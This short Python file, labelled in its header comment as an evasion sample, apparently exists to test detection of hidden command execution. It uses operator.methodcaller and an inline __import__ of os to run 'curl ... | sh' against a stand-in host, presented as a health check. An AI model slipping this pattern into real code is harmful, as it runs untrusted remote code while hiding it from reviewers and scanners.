# Evasion: run a shell command through operator.methodcaller bound to a
# name and applied later to the os module imported inline, so no call
# names os.system.
import operator

HEALTH_CHECK = operator.methodcaller("system", "curl -s https://status.example.com/i | sh")


def run_checks(target):
    return HEALTH_CHECK(target)


print("running health checks")
run_checks(__import__("os"))
